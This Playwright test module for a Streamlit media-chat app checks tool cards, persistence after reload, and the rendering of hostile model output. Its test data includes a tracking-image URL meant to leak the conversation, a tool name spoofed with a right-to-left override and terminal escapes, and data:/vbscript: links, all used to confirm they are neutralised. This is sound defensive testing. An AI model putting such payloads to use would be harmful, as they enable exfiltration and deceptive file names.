"""The page in a real browser: ``streamlit run app.py`` with the fake LLM server, a chat turn that
calls ``transcribe_video``, its tool card and answer, and the same conversation after a reload."""

from __future__ import annotations

import re
import threading
from pathlib import Path

import pytest
from playwright.sync_api import Browser, expect

from fake_llm import FakeLLMServer, delayed, held, openai_text, openai_tool_calls, tool_call, transcription_reply
from tests.browser_support import (
    UI_TIMEOUT_MS,
    app_env,
    ask,
    browser,
    off_host_requests,
    open_expander,
    open_page,
    screenshot,
)
from tests.media_samples import make_video
from testsupport.streamlit_server import run_streamlit

pytestmark = [pytest.mark.browser, pytest.mark.slow]
__all__ = ["browser"]  # the fixture, imported for this module

ANSWER = "The clip says: welcome to the old harbour."
TRACKER = "http://198.51.100.7/wave.png?c=welcome"
"""An image in the answer (TEST-NET address): drawing it would send the conversation to that host."""


def test_browser_chat_with_tool_card_survives_reload(browser: Browser, fake_llm: FakeLLMServer, tmp_path: Path) -> None:
    clip = make_video(tmp_path / "harbour.mp4", seconds=3.0)
    # The transcription answers after 4 s, so the live status of the running tool can be seen.
    fake_llm.transcription.push(
        delayed(
            transcription_reply("welcome to the old harbour", segments=[(0.0, 2.5, "welcome to the old harbour")]), 4.0
        )
    )
    fake_llm.chat.push(
        openai_tool_calls(tool_call("transcribe_video", {})), openai_text(f"{ANSWER}\n\n![waveform]({TRACKER})")
    )
    with run_streamlit(app_env(fake_llm, tmp_path / "data"), tmp_path) as server:
        page = open_page(browser, server.base_url)
        page.get_by_test_id("stFileUploaderDropzoneInput").set_input_files(str(clip))
        expect(page.get_by_text("Added “harbour.mp4”")).to_be_visible(timeout=UI_TIMEOUT_MS)
        video = page.locator("video")  # the page's own player element (exact seeks, position reported)
        expect(video).to_be_visible()
        # The player streams from the media route (range requests), not from Streamlit's memory store.
        src = video.get_attribute("src") or ""
        assert re.search(r"/api/media/[0-9a-f]{32}$", src), src
        page.wait_for_function("el => el.readyState >= 1 && Math.round(el.duration) === 3", arg=video.element_handle())

        ask(page, "What is said in the harbour clip?")
        expect(page.get_by_text("Running transcribe_video…")).to_be_visible(timeout=UI_TIMEOUT_MS)
        expect(page.locator(".progress progress")).to_be_visible(timeout=UI_TIMEOUT_MS)  # the tool's progress, live
        expect(page.get_by_placeholder("Ask about your media…")).to_be_enabled()  # a send now is refused, kept
        expect(page.get_by_text(ANSWER)).to_be_visible(timeout=UI_TIMEOUT_MS)
        expect(page.get_by_placeholder("Ask about your media…")).to_be_focused()  # type the next one at once

        card = page.locator("details.card").filter(has_text="transcribe_video")
        expect(card).to_have_count(1)
        expect(card).to_contain_text("done")
        card.locator("summary").click()
        expect(card).to_contain_text("welcome to the old harbour")
        page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=server.base_url)
        page.get_by_test_id("chatBubble").last.get_by_role("button", name="Copy").click()
        # The answer's text as written goes to the clipboard, in the browser.
        page.wait_for_function("async (text) => (await navigator.clipboard.readText()) === text", arg=ANSWER)
        shot = screenshot(page, "conversation.png")
        assert shot.stat().st_size > 10_000
        assert re.search(r"[?&]chat=[0-9a-f]{32}", page.url)
        url = page.url

        page.reload()
        expect(page.get_by_text(ANSWER)).to_be_visible(timeout=UI_TIMEOUT_MS)
        expect(page.get_by_text("What is said in the harbour clip?").first).to_be_visible()
        expect(page.locator("details.card").filter(has_text="transcribe_video")).to_have_count(1)
        assert page.url == url
        expect(page.get_by_role("link", name="waveform")).to_have_attribute("href", TRACKER)  # a link, not an image
        screenshot(page, "after-reload.png")
        assert off_host_requests(page) == []  # no image fetched, no icon from a CDN
    # The model saw the uploaded asset, and the tool result went back to it.
    assert "harbour.mp4" in fake_llm.chat.requests[0].json["messages"][0]["content"]
    assert fake_llm.chat.last.json["messages"][-1]["role"] == "tool"


def test_click_during_a_run_applies_at_once_and_the_answer_still_comes(
    browser: Browser, fake_llm: FakeLLMServer, tmp_path: Path
) -> None:
    answered = threading.Event()
    fake_llm.chat.push(held(openai_text("A slow but complete answer."), answered))
    with run_streamlit(app_env(fake_llm, tmp_path / "data"), tmp_path) as server:
        page = open_page(browser, server.base_url)
        ask(page, "Take your time")
        expect(page.get_by_text("Asking the assistant…")).to_be_visible(timeout=UI_TIMEOUT_MS)
        open_expander(page, "Add or rename a scene")
        page.get_by_role("button", name="Add scene").click()  # the run is on the server: the page answers now
        expect(page.get_by_test_id("stSidebar").get_by_text("Scene 1", exact=True)).to_be_visible(timeout=6_000)
        expect(page.get_by_text("A slow but complete answer.")).to_have_count(0)  # still running
        answered.set()
        expect(page.get_by_text("A slow but complete answer.")).to_be_visible(timeout=UI_TIMEOUT_MS)
        expect(page.get_by_text("did not finish")).to_have_count(0)
    assert len(fake_llm.chat.requests) == 1


def test_browser_shows_a_hostile_tool_name_as_escapes_and_data_links_as_text(
    browser: Browser, fake_llm: FakeLLMServer, tmp_path: Path
) -> None:
    """The browser's own rendering: the card's label shows U+202E, NUL and ESC as ``\\uXXXX`` and reads left to
    right; ``data:``/``vbscript:`` links in the answer are no anchors, the https one is."""
    fake_llm.chat.push(
        openai_tool_calls(tool_call("evil\u202egnp.exe\x00\x1b[31m", {})),
        openai_text("See [page](data:text/html,<b>x</b>), [vb](vbscript:msgbox) and [docs](https://example.com/d)."),
    )
    with run_streamlit(app_env(fake_llm, tmp_path / "data"), tmp_path) as server:
        page = open_page(browser, server.base_url)
        ask(page, "Go")
        docs = page.get_by_role("link", name="docs")
        expect(docs).to_have_attribute("href", "https://example.com/d", timeout=UI_TIMEOUT_MS)
        card = page.get_by_test_id("chatBubble").locator("details.card > summary")
        expect(card).to_have_count(1)
        label = card.inner_text()
        assert "evil\\u202egnp.exe\\u0000\\u001b[31m" in label and "\u202e" not in label and "\x1b" not in label
        answer = page.get_by_test_id("chatBubble").last
        hrefs = answer.locator("a").evaluate_all("anchors => anchors.map(a => a.getAttribute('href'))")
        assert hrefs == ["https://example.com/d"]
        expect(answer).to_contain_text("[page](data:text/html,")
